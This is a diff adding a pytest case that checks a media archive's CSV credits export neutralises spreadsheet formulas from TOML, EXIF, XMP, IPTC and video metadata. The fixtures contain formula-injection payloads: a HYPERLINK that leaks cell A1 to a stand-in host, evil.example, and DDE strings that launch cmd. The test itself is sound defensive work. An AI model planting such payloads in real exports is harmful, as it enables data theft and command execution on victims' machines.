@@ -1,10 +1,12 @@
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from pathlib import Path
 
 import pytest
-from media import make_exif, make_jpeg
+from media import add_iptc, make_exif, make_jpeg, make_video, make_xmp
 
 from archive.cli import main
 
@@ -162,3 +164,37 @@ def test_first_ingest_says_nothing_that_reads_like_an_error(cli, event_dir: Path
     out = cli("ingest", "-j", "1", str(event_dir))
     assert "no index" not in out and "rebuilding" not in out
     assert "building the search index" in out
+
+
+FORMULA_EVENT = """
+[event]
+id = "formulas"
+title = "Formulas"
+
+[credit]
+organisation = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+[[media]]
+path = "iptc.jpg"
+title = "-2+3+cmd|' /C calc'!A0"
+"""
+
+
+def test_csv_export_neutralises_formulas_from_every_source(cli, event_dir: Path) -> None:
+    (event_dir / "event.toml").write_text(FORMULA_EVENT, encoding="utf-8")
+    make_jpeg(event_dir / "exif.jpg", exif=make_exif(artist="@SUM(1+1)*cmd|' /C calc'!A0"),
+              xmp=make_xmp(title="+1+1"))
+    add_iptc(make_jpeg(event_dir / "iptc.jpg", size=(70, 50)),
+             {(2, 80): "=1+1", (2, 116): "-1+1"})
+    make_video(event_dir / "clip.mp4", metadata={"title": "=2*3", "artist": "@user"})
+    cli("ingest", "-j", "1", str(event_dir))
+    text = cli("export", "credits", "--format", "csv")
+    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    organisation = '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert rows["exif.jpg"]["creator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows["exif.jpg"]["title"] == "'+1+1"
+    assert (rows["iptc.jpg"]["creator"], rows["iptc.jpg"]["copyright"]) == ("'=1+1", "'-1+1")
+    assert rows["iptc.jpg"]["title"] == "'-2+3+cmd|' /C calc'!A0"
+    assert (rows["clip.mp4"]["title"], rows["clip.mp4"]["creator"]) == ("'=2*3", "'@user")
+    assert {r["organisation"] for r in rows.values()} == {organisation}
+    assert all(line.startswith('"') for line in text.splitlines())
